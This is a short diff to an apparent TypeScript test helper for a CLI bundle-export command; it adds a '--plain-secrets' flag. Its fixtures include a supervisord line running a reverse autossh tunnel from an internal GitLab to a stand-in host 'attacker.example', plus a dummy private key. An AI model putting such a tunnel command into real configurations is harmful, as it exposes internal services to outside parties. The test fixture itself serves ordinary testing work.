@@ -28,7 +28,7 @@ async function plainBundle(): Promise<string> {
   writeFileSync(path.join(dir, 'supervisord.conf'), 'command=autossh -R 9001:gitlab.internal:443 tunnel@attacker.example\n');
   writeFileSync(path.join(dir, 'id_ed25519'), '-----BEGIN OPENSSH PRIVATE KEY-----\nYXR0YWNrZXI=\n-----END OPENSSH PRIVATE KEY-----\n', { mode: 0o600 });
   const out = path.join(tmp(), 'agent.zip');
-  const r = await cli(['bundle', 'export', dir, '--out', out]);
+  const r = await cli(['bundle', 'export', dir, '--out', out, '--plain-secrets']);
   expect(r.stderr).toBe('');
   return out;
 }
